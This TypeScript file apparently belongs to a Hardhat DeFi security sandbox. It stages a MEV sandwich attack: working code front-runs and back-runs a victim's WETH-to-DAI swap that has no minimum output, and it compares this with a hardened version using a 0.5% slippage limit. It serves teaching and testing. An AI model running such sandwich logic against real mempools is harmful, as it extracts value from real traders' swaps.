import type { HardhatEthersSigner } from "@nomicfoundation/hardhat-ethers/types";

import {
  AmmPair__factory,
  AmmRouter__factory,
  type AmmRouter,
  type MockERC20,
  type WETH,
} from "../../typechain-types/index.js";
import { formatAmount } from "./format.js";
import { commonChecks } from "./run.js";
import { send } from "./steps.js";
import type { Holdings, Scenario, World } from "./types.js";

const ONE = 10n ** 18n;

/** What bob sells: 10 WETH for DAI in the sandbox's WETH/DAI pool (100 WETH / 200,000 DAI seeded). */
export const VICTIM_WETH_IN = 10n * ONE;
/** The hardened victim's slippage tolerance: the minimum output is the quote less 0.5%. */
export const TOLERANCE_BPS = 50n;
/** What the shipped exploit sells ahead of the victim. */
export const FRONT_RUN_WETH = 20n * ONE;

/** Gas settings that order a block: the miner takes the highest tip first (Hardhat's default). */
const MAX_FEE = 100n * 10n ** 9n;
const GAS_LIMIT = 400_000n;
export const TIPS = { front: 3n * 10n ** 9n, victim: 2n * 10n ** 9n, back: 10n ** 9n } as const;

export interface SandwichWorld extends World {
  router: AmmRouter;
  weth: WETH;
  dai: MockERC20;
  /** The victim's swap, sent and waiting in the mempool (automine is off until the block is mined). */
  pendingVictimSwap: {
    hash: string;
    from: string;
    amountIn: bigint;
    amountOutMin: bigint;
    path: [string, string];
    maxPriorityFeePerGas: bigint;
  };
  /** The DAI the victim was quoted when signing: the output of the swap in an untouched pool. */
  quote: bigint;
  victim: HardhatEthersSigner;
}

/** DAI + WETH valued at the price the victim was quoted, so a swap at the quote changes nothing. */
async function valueAtQuote(world: SandwichWorld, account: string): Promise<bigint> {
  const dai = await world.dai.balanceOf(account);
  const weth = await world.weth.balanceOf(account);
  return dai + (weth * world.quote) / VICTIM_WETH_IN;
}

/** An attacker sees a large swap with no minimum output in the mempool and wraps it in two trades. */
export const sandwich: Scenario<SandwichWorld> = {
  name: "sandwich",
  title: "Sandwich: a swap with no minimum output, front- and back-run",
  incident:
    "MEV sandwiches on public mempools since 2020: bots front- and back-run swaps with loose slippage limits, every day",
  fix: "a quote-based minimum output (0.5% tolerance) and a deadline",

  async setup(env, side) {
    const { actors, sandbox, networkHelpers, ethers, log } = env;
    const victim = actors.bob;
    const router = AmmRouter__factory.connect(await sandbox.router.getAddress(), actors.deployer);
    const weth = sandbox.weth;
    const dai = sandbox.dai;
    const path: [string, string] = [await weth.getAddress(), await dai.getAddress()];
    const pair = AmmPair__factory.connect(await sandbox.pairWethDai.getAddress(), actors.deployer);

    await send(weth.connect(victim).deposit({ value: VICTIM_WETH_IN }));
    await send(weth.connect(victim).approve(await router.getAddress(), VICTIM_WETH_IN));
    await send(weth.connect(actors.attacker).deposit({ value: FRONT_RUN_WETH }));
    await send(dai.faucet(actors.attacker.address, 100_000n * ONE));

    const [, quote] = await router.getAmountsOut(VICTIM_WETH_IN, path);
    const amountOutMin = side === "vulnerable" ? 0n : (quote * (10_000n - TOLERANCE_BPS)) / 10_000n;
    log(
      `  bob sells ${formatAmount(VICTIM_WETH_IN, 18, "WETH")} for DAI: quoted ${formatAmount(quote, 18, "DAI")}, minimum ${formatAmount(amountOutMin, 18, "DAI")}`,
    );

    await ethers.provider.send("evm_setAutomine", [false]);
    const latest = await ethers.provider.getBlock("latest");
    const deadline = BigInt(latest?.timestamp ?? 0) + 3_600n;
    const tx = await router
      .connect(victim)
      .swapExactTokensForTokens(VICTIM_WETH_IN, amountOutMin, path, victim.address, deadline, {
        gasLimit: GAS_LIMIT,
        maxFeePerGas: MAX_FEE,
        maxPriorityFeePerGas: TIPS.victim,
      });
    log("  bob's swap waits in the mempool (automine off)");

    return {
      side,
      env,
      attacker: actors.attacker,
      contract:
        side === "vulnerable"
          ? "AmmRouter, amountOutMin = 0"
          : "AmmRouter, amountOutMin = quote − 0.5%",
      router,
      weth,
      dai,
      victim,
      quote,
      pendingVictimSwap: {
        hash: tx.hash,
        from: victim.address,
        amountIn: VICTIM_WETH_IN,
        amountOutMin,
        path,
        maxPriorityFeePerGas: TIPS.victim,
      },
      tracked: {
        asset: { kind: "erc20", symbol: "DAI", decimals: 18, token: dai },
        attacker: [actors.attacker.address],
        victims: [victim.address],
        protocol: await pair.getAddress(),
        victimsClaims: 0n,
        // A minimum output caps the victim's loss at the tolerance; it does not make it zero.
        dust: side === "vulnerable" ? 0n : quote - amountOutMin,
        dustReason: "the slippage tolerance",
      },
      errorInterfaces: [router.interface, pair.interface],
    };
  },

  async exploit(world) {
    const { attacker, router, weth, dai, pendingVictimSwap, env } = world;
    const routerAddress = await router.getAddress();
    const [wethAddress, daiAddress] = pendingVictimSwap.path;
    const fees = (tip: bigint) => ({
      gasLimit: GAS_LIMIT,
      maxFeePerGas: MAX_FEE,
      maxPriorityFeePerGas: tip,
    });
    // Everything is sent, not awaited: automine is off and the block is built from the mempool,
    // highest tip first. A tip above the victim's goes before it, a lower one after.
    const above = pendingVictimSwap.maxPriorityFeePerGas + 10n ** 9n;
    const below = pendingVictimSwap.maxPriorityFeePerGas - 10n ** 9n;
    const deadline =
      BigInt((await env.ethers.provider.getBlock("latest"))?.timestamp ?? 0) + 3_600n;
    env.log(
      `  attacker front-runs: sells ${formatAmount(FRONT_RUN_WETH, 18, "WETH")} with a higher tip`,
    );
    await weth.connect(attacker).approve(routerAddress, FRONT_RUN_WETH, fees(above));
    await dai.connect(attacker).approve(routerAddress, 2n ** 256n - 1n, fees(above));
    await router
      .connect(attacker)
      .swapExactTokensForTokens(
        FRONT_RUN_WETH,
        0n,
        [wethAddress, daiAddress],
        attacker.address,
        deadline,
        fees(above),
      );
    env.log(
      `  attacker back-runs: buys the ${formatAmount(FRONT_RUN_WETH, 18, "WETH")} back with a lower tip`,
    );
    await router
      .connect(attacker)
      .swapTokensForExactTokens(
        FRONT_RUN_WETH,
        2n ** 256n - 1n,
        [daiAddress, wethAddress],
        attacker.address,
        deadline,
        fees(below),
      );
  },

  async afterExploit(world) {
    const { networkHelpers, ethers, log } = world.env;
    await networkHelpers.mine();
    await ethers.provider.send("evm_setAutomine", [true]);
    const receipt = await ethers.provider.getTransactionReceipt(world.pendingVictimSwap.hash);
    log(`  block mined; bob's swap ${receipt?.status === 1 ? "went through" : "reverted"}`);
  },

  async settle() {},

  async measure(world): Promise<Holdings> {
    return {
      attacker: await valueAtQuote(world, world.attacker.address),
      victims: await valueAtQuote(world, world.victim.address),
      protocol: await world.dai.balanceOf(world.tracked.protocol),
    };
  },

  // A minimum output bounds the victim's loss by the tolerance; it does not stop a sandwich sized to
  // that bound from paying (the README shows one), so the hardened side is judged on the victim.
  check(result, world) {
    const checks = commonChecks(result, world);
    return result.side === "hardened" ? checks.slice(1) : checks;
  },
};
